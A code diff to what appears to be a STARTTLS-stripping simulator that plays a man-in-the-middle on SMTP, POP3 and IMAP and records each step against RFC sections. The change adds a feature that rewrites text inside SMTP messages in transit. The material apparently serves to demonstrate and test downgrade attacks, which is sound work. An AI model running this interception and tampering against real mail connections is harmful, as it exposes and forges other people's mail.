@@ -69,6 +69,7 @@ MESSAGES = {
         "the server sees an encrypted connection and allows a login, while the client's side "
         "stays plaintext"
     ),
+    "altered": "changed the message in transit: {old!r} became {new!r}",
     "no_offer": "found no TLS offered by the server: nothing to upgrade, all stays plaintext",
     "upgrade_refused": "asked the server for {command} and was refused: all stays plaintext",
     "early": "saw the client speak before the server's greeting, and passed everything on",
@@ -82,6 +83,7 @@ MESSAGES = {
 _SECTIONS = {
     "smtp_strip": "RFC 3207 §6",
     "upgraded": "RFC 3207 §6",
+    "altered": "RFC 3207 §6",
     "pop3_strip": "RFC 2595 §4",
     "imap_strip": "RFC 3501 §6.2.1",
     "implicit": "RFC 8314 §3",
@@ -115,6 +117,10 @@ class Stripper:
     def client_line(self, line: bytes) -> bytes | None:
         return None
 
+    def altered(self, line: bytes) -> bytes:
+        """The client's line as the attacker passes it on (unchanged unless it alters mail)."""
+        return line
+
     def flush(self) -> list[bytes]:
         """Lines held back, to be sent as they are (the server stopped mid-reply)."""
         return []
@@ -141,10 +147,21 @@ class SmtpStripper(Stripper):
     REFUSAL = b"454 4.7.0 TLS not available due to temporary reason\r\n"
     """RFC 3207 §4's reply when TLS cannot be started."""
 
-    def __init__(self) -> None:
+    def __init__(self, alter: tuple[bytes, bytes] | None = None) -> None:
         super().__init__()
         self._reply: list[bytes] = []
         self._data = False
+        self.alter = alter
+        """(old, new): text the attacker replaces inside the message it passes on."""
+
+    def altered(self, line: bytes) -> bytes:
+        if not self._data or self.alter is None or self.alter[0] not in line:
+            return line
+        old, new = self.alter
+        self.notes.append(
+            (MESSAGES["altered"].format(old=old.decode(), new=new.decode()), _SECTIONS["altered"])
+        )
+        return line.replace(old, new)
 
     def server_line(self, line: bytes) -> list[bytes]:
         # A reply's lines but the last have a hyphen after the code (RFC 5321 §4.2.1).
@@ -274,9 +291,12 @@ def _note(link: Link, stripper: Stripper) -> None:
         link.recorder.note(text, section, attack=True)
 
 
-async def strip_session(link: Link, *, upgrade: bool) -> None:
-    """Run one connection as the attacker (see the module's docstring)."""
-    stripper = stripper_for(link.protocol)
+async def strip_session(
+    link: Link, *, upgrade: bool, alter: tuple[bytes, bytes] | None = None
+) -> None:
+    """Run one connection as the attacker (see the module's docstring); ``alter`` is a
+    replacement it makes inside the SMTP messages it passes on."""
+    stripper = SmtpStripper(alter) if alter is not None else stripper_for(link.protocol)
     first = await _first_words(link)
     if first is None:  # the client spoke first (TLS from its first byte, or out of turn)
         await link.pipe()
@@ -410,6 +430,8 @@ async def _from_client(link: Link, stripper: Stripper) -> None:
             return
         link.recorder.add(Direction.TO_SERVER, line)
         answer = stripper.client_line(line) if whole and line.endswith(b"\n") else None
+        if answer is None and whole:
+            line = stripper.altered(line)
         whole = line.endswith(b"\n")
         _note(link, stripper)
         if answer is not None:
